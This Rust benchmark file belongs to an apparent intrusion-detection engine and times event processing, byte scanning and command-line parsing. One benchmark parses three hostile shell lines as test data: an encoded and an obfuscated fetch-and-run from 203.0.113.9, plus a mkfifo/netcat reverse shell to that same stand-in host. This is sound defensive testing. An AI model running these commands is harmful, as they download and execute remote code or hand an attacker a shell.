//! How many events a second the engine takes, and how fast bytes are searched. Run: `cargo bench -p minesweep-detect`.
#![expect(clippy::unwrap_used, reason = "a test that cannot read its own files has failed")]

use std::{fs, path::Path, sync::Arc};

use divan::{Bencher, counter::BytesCount, counter::ItemsCount};
use minesweep_detect::{Engine, Rules, Settings, clues, commands};
use minesweep_model::{
    ClueSource, CpuSample, Event, Process, ProcessCpu, ProcessKey, Role, Rounding, Said, Utterance, What,
};

fn main() {
    divan::main();
}

fn rules() -> Arc<Rules> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content");
    let mut files = Vec::new();
    for folder in fs::read_dir(root).unwrap().map(|entry| entry.unwrap().path()).filter(|path| path.is_dir())
    {
        for entry in fs::read_dir(&folder).unwrap() {
            let path = entry.unwrap().path();
            let name = [&folder, &path].map(|path| path.file_name().unwrap().to_string_lossy()).join("/");
            files.push((name, fs::read_to_string(path).unwrap()));
        }
    }
    Arc::new(Rules::compile(files.iter().map(|(path, text)| (path.as_str(), text.as_str()))).unwrap())
}

fn key(pid: u32) -> ProcessKey {
    ProcessKey { pid, start_ticks: u64::from(pid) }
}

/// A busy build machine: each process forks, executes, asks DNS, is sampled for rounding, ends; a CPU sample every 100.
fn events(count: u32) -> Vec<Event> {
    let mut events = Vec::new();
    for pid in 100..100 + count {
        let at_ms = u64::from(pid) * 10;
        let mut process = Process::unknown(key(pid));
        process.exe = "/usr/lib/gcc/x86_64-linux-gnu/12/cc1".to_owned();
        process.argv = (0..20).map(|word| format!("-I/usr/include/some/path/{word}")).collect();
        let question = Utterance::DnsQuestion { name: "deb.debian.org".to_owned(), kind: "A".to_owned() };
        let said = Said {
            cookie: at_ms,
            process: Some(key(pid)),
            local: "10.0.0.1:40000".parse().unwrap(),
            remote: "10.0.0.2:53".parse().unwrap(),
            via: None,
            role: Role::Client,
            utterance: question,
        };
        let mut push = |what| events.push(Event { at_ms, what });
        push(What::Fork { parent: key(pid - 1), child: key(pid) });
        push(What::Exec(Box::new(process)));
        push(What::Said(Box::new(said)));
        push(What::Rounding(Rounding { process: key(pid), samples: [40, 0, 0, 0] }));
        push(What::Exit { process: key(pid) });
        if pid % 100 == 0 {
            push(What::Cpu(sample(pid)));
        }
    }
    events
}

fn sample(pid: u32) -> CpuSample {
    let use_of = |pid| ProcessCpu {
        process: key(pid),
        cpu_ms: 500,
        total_ms: 500,
        threads: 1,
        voluntary: 50,
        involuntary: 5,
        rss_kib: 1000,
    };
    CpuSample {
        over_ms: 1000,
        busy_ms: 2000,
        cpus: 2,
        ended_ms: 1000,
        processes: (pid - 50..pid).map(use_of).collect(),
        visible_ms: 1000,
    }
}

#[divan::bench]
fn observe(bencher: Bencher) {
    let (rules, events) = (rules(), events(2000));
    bencher
        .counter(ItemsCount::new(events.len()))
        .with_inputs(|| Engine::new(Settings::default(), rules.clone()))
        .bench_values(|mut engine| events.iter().map(|event| engine.observe(event).len()).sum::<usize>());
}

#[divan::bench]
fn search_memory(bencher: Bencher) {
    let bytes: Vec<u8> =
        (0..4_u32 << 20).map(|n| (n.wrapping_mul(2_654_435_761) >> 24).to_le_bytes()[0]).collect();
    bencher
        .counter(BytesCount::new(bytes.len()))
        .bench(|| clues::search(divan::black_box(&bytes), ClueSource::Memory));
}

#[divan::bench]
fn scan_file(bencher: Bencher) {
    let rules = rules();
    let bytes = fs::read(std::env::current_exe().unwrap()).unwrap();
    bencher.counter(BytesCount::new(bytes.len())).bench(|| rules.files().scan(divan::black_box(&bytes)));
}

/// Command lines as a build machine and an intruder write them, understood one by one.
#[divan::bench(args = [0, 1, 2])]
fn understood_commands(bencher: Bencher<'_, '_>, kind: usize) {
    let words = |text: &str| text.split(' ').map(str::to_owned).collect::<Vec<_>>();
    let shell = |text: &str| vec!["sh".to_owned(), "-c".to_owned(), text.to_owned()];
    let compiler: Vec<String> = std::iter::once("cc1".to_owned())
        .chain((0..20).map(|word| format!("-I/usr/include/some/path/{word}")))
        .collect();
    let lines = match kind {
        0 => vec![compiler],
        1 => vec![
            shell("cd /srv/app && ./run --port 80 > /var/log/app 2>&1 || exit 1"),
            words("git commit -m message"),
            shell("test -f /etc/x && . /etc/x; for i in a b c; do echo \"$i\"; done | sort"),
        ],
        _hostile => vec![
            shell("echo Y3VybCAyMDMuMC4xMTMuOS9hIHwgc2g= | base64 -d | sh"),
            shell("a=cu;b=rl;$a$b$IFS-s${IFS}203.0.113.9/a|'s''h'"),
            shell("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 44 >/tmp/f"),
        ],
    };
    bencher
        .counter(ItemsCount::new(lines.len()))
        .bench(|| lines.iter().map(|argv| commands::understand(argv).found.len()).sum::<usize>());
}

/// Text made to be slow, 60 KiB.
#[divan::bench(args = ["$(", "`", "{a,", "a=$a$a;", "eval ", "\"$("])]
fn hostile_command(bencher: Bencher<'_, '_>, piece: &str) {
    let text = piece.repeat(60_000 / piece.len());
    bencher.counter(BytesCount::new(text.len())).bench(|| commands::understand_text(&text).found.len());
}
